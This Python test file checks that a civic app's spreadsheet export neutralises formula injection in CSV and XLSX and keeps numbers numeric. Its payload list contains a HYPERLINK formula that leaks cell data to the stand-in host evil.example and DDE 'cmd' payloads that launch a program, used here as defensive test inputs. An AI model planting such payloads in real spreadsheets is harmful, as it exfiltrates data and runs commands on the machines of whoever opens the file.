"""Cells written for spreadsheets are read back as a spreadsheet would: no text a resident
typed ever becomes a formula, in CSV or in XLSX, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from civic.core import spreadsheet

#: One attack per character that starts a formula, as a resident could type it (a NUL,
#: which no database column keeps, is tried on the pure functions only).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Voir")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]
PAYLOAD_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def read_csv(body: bytes | str, separator: str = ",") -> list[list[str]]:
    """The CSV as the csv module reads it (byte-order mark dropped)."""
    text = body.decode("utf-8-sig") if isinstance(body, bytes) else body.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def formulas_in(xlsx: bytes) -> list[str]:
    """Every ``<f>`` (formula) element of every sheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        return [found for name in sheets for found in re.findall(
            r"<(?:\w+:)?f[\s>/].*?(?:</(?:\w+:)?f>|/>)", archive.read(name).decode())]


def as_xml_reads_it(text: str) -> str:
    """XML reads a carriage return in a text as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def assert_csv_text(cell: str, payload: str) -> None:
    """The CSV cell holds the text behind the single quote that keeps it text."""
    assert cell == "'" + payload
    assert not cell.startswith(spreadsheet.FORMULA_STARTS)


def assert_xlsx_text(cell: Any, payload: str) -> None:
    """The XLSX cell holds the text itself, typed as text and marked as Excel marks a text
    typed after a single quote."""
    assert cell.data_type == "s"
    assert cell.data_type != "f"
    assert cell.value == as_xml_reads_it(payload)
    assert cell.quotePrefix


def xlsx_of(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for row in rows:
        spreadsheet.append(book.active, row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- The rule ------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_a_text_starting_a_formula_gets_a_single_quote(start: str) -> None:
    assert spreadsheet.is_formula_like(f"{start}1+2")
    assert spreadsheet.neutralise(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("text", ["Des bancs à l’ombre", "", "< 11", "'déjà cité", " =1+2",
                                  "1,5", "−3 (signe moins typographique)", "Total",
                                  "A=B", "2025-03-10", "#N/A"])
def test_other_texts_are_left_alone(text: str) -> None:
    assert not spreadsheet.is_formula_like(text)
    assert spreadsheet.neutralise(text) == text


@pytest.mark.parametrize(("value", "comma", "cell"), [
    (-3, False, -3),
    (-3, True, -3),
    (0, True, 0),
    (Decimal("-12.50"), False, Decimal("-12.50")),
    (Decimal("-12.50"), True, "-12,50"),
    (-4.5, True, "-4,5"),
    (59.0, False, 59.0),
    ("-3", False, "'-3"),  # a number typed as text is text
    ("=1+2", True, "'=1+2"),
    (None, False, ""),
    (True, False, "True"),
])
def test_a_csv_cell(value: Any, comma: bool, cell: Any) -> None:
    assert spreadsheet.csv_cell(value, decimal_comma=comma) == cell


# --- CSV -----------------------------------------------------------------------------------


@pytest.mark.parametrize("separator", [",", ";"])
def test_csv_read_back_holds_every_attack_as_text(separator: str) -> None:
    rows = [["title", "change"], *([payload, -3] for payload in PAYLOADS)]
    body = spreadsheet.csv_text(rows, separator=separator, decimal_comma=separator == ";")
    assert body.endswith("\r\n")
    read = read_csv(body, separator)
    assert read[0] == ["title", "change"]
    assert len(read) == 1 + len(PAYLOADS)
    for (title, change), payload in zip(read[1:], PAYLOADS, strict=True):
        assert_csv_text(title, payload)
        assert change == "-3"  # a genuine negative number stays a number


@pytest.mark.parametrize("separator", [",", ";"])
def test_csv_quotes_and_separators_cannot_open_a_second_cell(separator: str) -> None:
    """OWASP's example: a quote and a separator inside the text must not end the cell and
    start another one with a formula."""
    attack = f'=1+2"{separator}=1+2'
    line = spreadsheet.csv_text([[attack, "x\r\n=3+4"]], separator=separator)
    assert line == f'"\'=1+2""{separator}=1+2"{separator}"x\r\n=3+4"\r\n'
    assert read_csv(line, separator) == [[f"'{attack}", "x\r\n=3+4"]]


def test_csv_numbers_keep_their_decimal_mark() -> None:
    rows = [[Decimal("8400.50"), 59.0, 3, Decimal("-0.50")]]
    assert spreadsheet.csv_text(rows) == "8400.50,59.0,3,-0.50\r\n"
    assert spreadsheet.csv_text(rows, separator=";", decimal_comma=True) == (
        "8400,50;59,0;3;-0,50\r\n")


# --- XLSX ----------------------------------------------------------------------------------


def test_plain_openpyxl_would_write_the_formula() -> None:
    """Why the export needs this module: openpyxl stores a text starting with ``=`` as a
    formula."""
    book = Workbook()
    book.active.append([PAYLOADS[0]])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formulas_in(buffer.getvalue()) == [
        '<f>HYPERLINK("http://evil.example/?d="&amp;A3,"Voir")</f>']
    assert load_workbook(buffer).active["A1"].data_type == "f"


def test_xlsx_holds_every_attack_as_text_and_numbers_as_numbers() -> None:
    body = xlsx_of([["Titre", "Évolution"], *([payload, -3] for payload in PAYLOADS)])
    assert formulas_in(body) == []
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.max_row == 1 + len(PAYLOADS)
    assert [c.value for c in sheet[1]] == ["Titre", "Évolution"]
    assert not sheet["A1"].quotePrefix  # an ordinary text is not marked
    for (title, change), payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        assert_xlsx_text(title, payload)
        assert change.value == -3
        assert change.data_type == "n"


def test_xlsx_keeps_error_codes_and_texts_that_look_like_numbers_as_text() -> None:
    body = xlsx_of([["#N/A", "-3", "#DIV/0!", Decimal("-12.50"), 4.5, None, True]])
    assert formulas_in(body) == []
    cells = load_workbook(io.BytesIO(body)).active[1]
    assert [(c.value, c.data_type) for c in cells] == [
        ("#N/A", "s"), ("-3", "s"), ("#DIV/0!", "s"), (-12.5, "n"), (4.5, "n"), (None, "n"),
        (True, "b")]
    assert cells[1].quotePrefix


def test_xlsx_drops_what_xml_cannot_hold_instead_of_failing() -> None:
    """A NUL or another control character would make openpyxl refuse the whole file."""
    body = xlsx_of([["\0=1+2", "Porte\x01 cassée", "a\tb\nc"]])
    assert formulas_in(body) == []
    cells = load_workbook(io.BytesIO(body)).active[1]
    assert_xlsx_text(cells[0], "=1+2")
    assert [c.value for c in cells[1:]] == ["Porte cassée", "a\tb\nc"]
    assert all(c.data_type == "s" for c in cells)
